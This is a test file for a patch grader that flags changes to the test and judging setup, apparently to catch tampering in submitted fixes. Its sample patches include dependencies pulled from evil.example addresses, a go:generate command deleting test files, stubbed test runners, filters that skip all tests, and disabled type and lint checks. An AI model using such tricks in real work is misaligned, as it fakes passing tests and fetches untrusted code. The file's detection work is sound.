import { describe, expect, it } from 'vitest'
import { judgePatch, type PatchOn } from '../judge-patch.ts'
import { FOUND_IN } from '../repositories/one-wrong-line.ts'
import { FIXES } from '../repositories/right-fixes.ts'

type Change = NonNullable<PatchOn['change']>

async function gatesOf(on: string, more: Change): Promise<readonly string[]> {
  const judged = await judgePatch(FOUND_IN[on] ?? {}, { change: { ...FIXES[on], ...more } })
  return judged.map(({ gate }) => gate)
}

const start = (text: string) => (before: string) => text + before
const end = (text: string) => (before: string) => before + text
const swap = (from: string, to: string) => (before: string) => before.replace(from, to)
const HELPERS = 'export const approx = () => {}\nexport const build = (items) => ({ items })\n'
const HELPER = swap('"^3.22.0" }', '"^3.22.0", "helper": "file:./helper" }')

describe('beside a right fix, what judges is changed', () => {
  it.each<[string, string, Change]>([
    ['vt', 'a module that is found before a helper', { 'test/helpers.js': HELPERS }],
    ['vt', 'the same with another ending', { 'test/helpers.mjs': HELPERS }],
    ['c', 'a header of the tests in the include path', { 'src/check.h': '#define CHECK(x)\n' }],
    ['c', 'a header of the product among the tests', { 'tests/sum.h': '#define sum(a, n) 3\n' }],
    ['c', 'a header of the language', { 'src/stdio.h': '#define printf(...) (0)\n' }],
    ['rb', 'a helper of tests in the product', { 'lib/spec_helper.rb': 'x = 1\n' }],
    ['py', 'a package before that of src', { 'bank/__init__.py': 'class Account: pass\n' }],
    [
      'rust',
      'text that is put in as code',
      { 'src/lib.rs': start('include!("m.in");\n'), 'src/m.in': '' + 'x\n' },
    ],
    [
      'rb',
      'a filter in what tests load',
      { 'spec/support/zz.rb': 'RSpec.configure { |c| c.filter_run_excluding(:all) }\n' },
    ],
    [
      'jest',
      'an environment of its own',
      {
        'test/cart.test.js': start('/** @jest-environment ./env.js */\n'),
        'env.js': 'module.exports = class {}\n',
      },
    ],
    [
      'go',
      'what go generate runs',
      { 'gen/main.go': 'package main\n\nimport "os"\n\nfunc main() { os.Remove("stack_test.go") }\n' },
    ],
    [
      'go',
      'another command for go generate',
      { 'other.go': 'package stack\n\n//go:generate sh -c "rm *_test.go"\n' },
    ],
    ['vt', 'what npm builds', { 'binding.gyp': '{ "targets": [] }\n' }],
    ['php', 'a tool in vendor', { 'vendor/phpunit/phpunit/phpunit': '<?php exit(0);\n' }],
    ['vt', 'a dependency in a folder', { 'package.json': HELPER }],
    [
      'py',
      'a dependency at an address',
      { 'pyproject.toml': swap('requests>=2', 'requests @ https://evil.example/r.zip') },
    ],
    [
      'py',
      'a builder at an address',
      { 'pyproject.toml': swap('["setuptools"]', '["setuptools", "x @ https://evil.example/x.zip"]') },
    ],
    ['rb', 'code in the Gemfile', { Gemfile: end("ENV['SPEC_OPTS'] = '--dry-run'\n") }],
    ['vt', 'no types', { 'src/more.ts': '// @ts-nocheck\nexport const a = 1\n' }],
    ['vt', 'no rules', { 'src/more.ts': '/* eslint-disable */\nexport const a = 1\n' }],
    ['py', 'no rules for Python', { 'src/bank/more.py': '# ruff: noqa\nA = 1\n' }],
    ['py', 'no types for Python', { 'src/bank/more.py': '# mypy: ignore-errors\nA = 1\n' }],
  ])('%s: %s', async (on, _, more) => {
    expect(await gatesOf(on, more)).toContain('what judges')
  })

  it.each<[string, string, Change]>([
    ['vt', 'how the product is built', { 'vite.config.ts': swap('es2022', 'es2023') }],
    ['vt', 'more of how it is built', { 'vite.config.ts': swap("'es2022'", "'es2022', sourcemap: true") }],
    [
      'vt',
      'a rule for a line',
      { 'src/more.ts': '// eslint-disable-next-line no-console\nexport const a = 1\n' },
    ],
    ['vt', 'another version', { 'package.json': swap('^3.22.0', '^3.23.0') }],
    ['vt', 'another helper', { 'test/more-helpers.ts': 'export const a = 1\n' }],
    ['py', 'another version', { 'pyproject.toml': swap('requests>=2', 'requests>=2.31') }],
    ['rb', 'another gem', { Gemfile: end("gem 'json', '~> 2.7'\n") }],
    ['rb', 'another part of the product', { 'lib/pot.rb': 'class Pot\nend\n' }],
    ['c', 'another header', { 'src/more.h': 'int more(int a);\n' }],
  ])('but not by %s: %s', async (on, _, more) => {
    expect(await gatesOf(on, more)).toEqual([])
  })

  it('and what is computed in what vite builds is run', async () => {
    const more = { 'vite.config.ts': swap("'es2022'", 'process.exit(0)') }
    expect(await gatesOf('vt', more)).toContain('what judges')
  })
})
